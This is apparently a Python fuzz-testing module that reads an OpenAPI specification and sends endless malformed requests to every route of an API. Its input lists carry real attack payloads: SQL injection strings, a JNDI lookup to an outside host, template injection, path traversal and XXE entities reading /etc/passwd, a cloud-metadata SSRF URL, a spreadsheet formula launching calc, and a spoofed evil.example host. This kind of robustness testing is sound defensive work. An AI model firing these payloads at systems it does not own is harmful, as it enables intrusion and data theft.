"""Hostile calls without end: of every route of the document, with every part of it in turn something nasty."""

from __future__ import annotations

import copy
import gzip
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

MARK = "Querulant4711"  # stands in what is sent, and nowhere else
TEXTS = [
    "",
    " ",
    "\x00",
    f"{MARK}\x00{MARK}",
    "a\r\nSet-Cookie: a=b",
    f"' OR '1'='1' -- {MARK}",
    f"'; DROP TABLE help_request; -- {MARK}",
    f'" UNION SELECT key_hash FROM api_key -- {MARK}',
    f"{{{{7*7}}}}{MARK}",
    f"${{jndi:ldap://{MARK}.example/a}}",
    "{% include '/etc/passwd' %}",
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "<script>alert(1)</script>",
    "=cmd|'/c calc'!A1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "\u202e" + MARK,
    "\u2066\u2067\u2068" * 20,
    "\ufeff\u200b\u200d\u2060",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 30,
    "a\u0300" * 500,
    "\ufdfa" * 200,
    "Z\u0351\u036b\u0343\u036a\u0302" * 40,
    "\U0010ffff\ufffe\uffff",
    "\ue000\uf8ff",
    "\u0130\u0131\u017f\u212a",
    "\x1b[2J\x1b]0;a\x07",
    "\u0085\u2028\u2029",
    "９８７６５４３２１０",
    "１",
    "²",
    "٣",
    "-0",
    "-1",
    "1e999",
    "NaN",
    "Infinity",
    "0x10",
    "1_000",
    "+1",
    "9" * 30,
    "9" * 5000,
    "2147483648",
    "9223372036854775808",
    "0000-00-00",
    "9999-12-31",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59-23:59",
    "2026-02-30",
    "2026-11-23T08:00:60Z",
    "true",
    "null",
    "undefined",
    "A" * 300,
    "汉" * 4001,
    "B" * 6000,
    "01936f2e-9d3c-7a41-8c55-3f0a1b2c3d4e",
    "{01936f2e-9d3c-7a41-8c55-3f0a1b2c3d4e}",
    "urn:uuid:01936f2e-9d3c-7a41-8c55-3f0a1b2c3d4e",
    "00000000-0000-0000-0000-000000000000",
    "360803-civil-affairs",
    "not_found",
]
VALUES: list[Any] = [
    *TEXTS,
    None,
    True,
    0,
    -1,
    2**31,
    2**63,
    2**64,
    10**400,
    1e308,
    -1e-308,
    0.1,
    [],
    {},
    [[]],
    [None],
    {"": ""},
    {"__proto__": {"a": 1}},
    {"$ref": "#"},
    {"$gt": ""},
    ["x"] * 300,
    {f"k{at}": at for at in range(300)},
    [{"code": MARK}] * 40,
]
KINDS = [
    "application/json",
    "application/json; charset=utf-16",
    "application/json; charset=gb18030",
    "application/json; charset=" + "x" * 200,
    "application/json;" + ";" * 500,
    "application/" + "a" * 300 + "+json",
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "multipart/form-data; boundary=x",
    "text/csv",
    "application/xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "",
    MARK,
]
HEADERS = {
    "idempotency-key": [MARK, "", "a" * 201, "a b", "é", "a" * 5000],
    "if-match": ["*", '"7"', 'W/"7"', '"', '"' + "9" * 400 + '"', MARK, '"-1"', '"1", "2"'],
    "if-none-match": ["*", '"7"', MARK],
    "accept-language": ["*", "en;q=nan", "en" * 500, MARK, "zh-Hans-CN,en;q=0.5", "\t"],
    "accept": ["*/*", "text/html", MARK, "application/xml;q=" + "9" * 50],
    "prefer": ["wait=-1", "wait=0", "wait=abc", "return=minimal", "wait=" + "x" * 300],
    "x-request-id": [MARK[:3], "a" * 65, "../..", "<b>", "é"],
    "x-forwarded-for": ["127.0.0.1", "unknown", "::1", "999.999.999.999", ",,,,", "a" * 500],
    "x-forwarded-proto": ["https", "javascript"],
    "x-http-method-override": ["DELETE"],
    "host": ["evil.example", "", "a:b:c", "[::1"],
    "range": ["bytes=0-", "bytes=abc", "bytes=" + "0-1," * 100],
    "cookie": ["one_window_answer=" + MARK, "=;=;=", "a" * 3000],
    "webhook-id": [MARK, "", "a" * 300, "é"],
    "webhook-timestamp": ["0", "-1", "NaN", "9" * 30, "1e9", "²", MARK],
    "webhook-signature": ["v1,", "v1," + "A" * 44, "v1,é", MARK, "v1,AAAA " * 300],
    "one-window-agency": [MARK, "360803-civil-affairs", "é", "a" * 300],
    "authorization": ["", "Bearer", "Bearer ", "Bearer " + "é" * 20, "Bearer " + "x" * 201, "Basic Og==", "bearer\tx"],
    "content-encoding": ["gzip", "br", "identity, gzip", MARK],
    "expect": ["100-continue", MARK],
    "te": ["trailers"],
    "origin": ["https://evil.example", "null"],
}
METHODS = ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "PROPFIND"]


@dataclass
class Call:
    method: str
    address: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None


@dataclass(frozen=True)
class Route:
    method: str
    path: str
    parameters: list[dict[str, Any]]
    example: Any


def routes_of(document: dict[str, Any]) -> list[Route]:
    schemas = document["components"]["schemas"]
    found = []
    for path, methods in document["paths"].items():
        for method, operation in methods.items():
            content = operation.get("requestBody", {}).get("content", {}).get("application/json", {})
            name = content.get("schema", {}).get("$ref", "").rpartition("/")[2]
            example = (schemas.get(name, {}).get("examples") or [{}])[0]
            found.append(Route(method.upper(), path, operation.get("parameters", []), example))
    return found


def calls(routes: list[Route], chance: random.Random) -> Iterator[tuple[Route, Call]]:
    """Round all routes, for ever."""
    while True:
        for route in routes:
            yield route, _call(route, chance)


def _call(route: Route, chance: random.Random) -> Call:
    method = chance.choice(METHODS) if chance.random() < 0.05 else route.method
    call = Call(method, _address(route, chance))
    for name in chance.sample(sorted(HEADERS), chance.choice((0, 0, 1, 1, 2, 5))):
        call.headers[name] = chance.choice(HEADERS[name])
    if method in ("POST", "PUT", "PATCH") or chance.random() < 0.05:
        call.body = _body(route.example, chance)
        call.headers["content-type"] = "application/json" if chance.random() < 0.85 else chance.choice(KINDS)
    return call


def _address(route: Route, chance: random.Random) -> str:
    path = route.path
    for part in path.split("/"):
        if part.startswith("{"):
            # Encoded whole, and once in a while with its slashes and dots as they are.
            given = chance.choice(TEXTS)[:2000]
            safe = "/." if chance.random() < 0.2 else ""
            path = path.replace(part, quote(given, safe=safe) or "%20", 1)
    asked = []
    for parameter in route.parameters:
        if parameter["in"] == "query" and chance.random() < 0.6:
            # Waiting teaches nothing.
            given = chance.choice(["-1", "x", "0"]) if parameter["name"] == "wait" else chance.choice(TEXTS)[:2000]
            asked.append(f"{parameter['name']}={quote(given, safe='')}" * chance.choice((1, 1, 1, 2)))
    if chance.random() < 0.1:
        asked.append(chance.choice(["%", "%zz=%", "a=%ff%fe", "&&&", "a[]=1&a[b]=2", "=" * 50, "%00=%00", "a;b;c"]))
    return path + ("?" + "&".join(asked) if asked else "")


def _body(example: Any, chance: random.Random) -> bytes:
    kind = chance.random()
    if kind < 0.7:
        return json.dumps(_spoilt(example, chance), ensure_ascii=chance.random() < 0.5).encode("utf-8", "replace")
    good = json.dumps(example, ensure_ascii=False)
    return chance.choice(_WHOLE)(good, chance)


def _spoilt(example: Any, chance: random.Random) -> Any:
    """With one to three of its parts replaced, left out, or joined by another."""
    spoilt = copy.deepcopy(example)
    for _ in range(chance.choice((1, 1, 2, 3))):
        parts = list(_parts(spoilt))
        if not parts:
            return chance.choice(VALUES)
        within, name = chance.choice(parts)
        if isinstance(within, dict) and chance.random() < 0.2:
            if chance.random() < 0.5:
                within.pop(name, None)
            else:
                within[chance.choice(TEXTS)] = chance.choice(VALUES)
        else:
            within[name] = copy.deepcopy(chance.choice(VALUES))
    return spoilt


def _parts(value: Any) -> Iterator[tuple[Any, Any]]:
    if isinstance(value, dict | list):
        for name in value if isinstance(value, dict) else range(len(value)):
            yield value, name
            yield from _parts(value[name])


_WHOLE: list[Any] = [
    lambda good, chance: b"",
    lambda good, chance: good.encode()[: chance.randrange(len(good) + 1)],
    lambda good, chance: good.encode("utf-16"),
    lambda good, chance: good.encode("utf-32-le"),
    lambda good, chance: good.encode("gb18030"),
    lambda good, chance: b"\xef\xbb\xbf" + good.encode(),
    lambda good, chance: gzip.compress(good.encode()),
    lambda good, chance: good.encode() * 2,
    lambda good, chance: good[:-1].encode() + b', "channel": "window", "channel": "' + MARK.encode() + b'"}',
    lambda good, chance: b"[" * chance.choice((33, 300, 100_000)),
    lambda good, chance: b'{"a":' * 500 + b"1" + b"}" * 500,
    lambda good, chance: b"[" + b"1," * 60_000 + b"1]",
    lambda good, chance: b"{" + b",".join(b'"k%d":1' % at for at in range(9000)) + b"}",
    lambda good, chance: b'{"a": ' + b"9" * 10_000 + b"}",
    lambda good, chance: b'{"a": 1e' + b"9" * 50 + b"}",
    lambda good, chance: b'"\\ud800\\udc00\\ud800"',
    lambda good, chance: b'{"\\u0000": "\\u0000"}',
    lambda good, chance: b'{"what": "\xed\xa0\x80", "where": "\xc0\xaf"}',
    lambda good, chance: b'{"what": "' + b"\\u202e" * 100 + b'", "where": "x"}',
    lambda good, chance: b"NaN",
    lambda good, chance: b"null",
    lambda good, chance: b"[]",
    lambda good, chance: b'"' + MARK.encode() + b'"',
    lambda good, chance: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    lambda good, chance: b"code=" + b"%00" * 300,
    lambda good, chance: b"PK\x03\x04" + bytes(chance.randrange(256) for _ in range(300)),
    lambda good, chance: bytes(chance.randrange(256) for _ in range(chance.randrange(2000))),
    lambda good, chance: b" " * 270_000,
    lambda good, chance: b'{"what": "' + b"A" * 250_000 + b'"}',
]
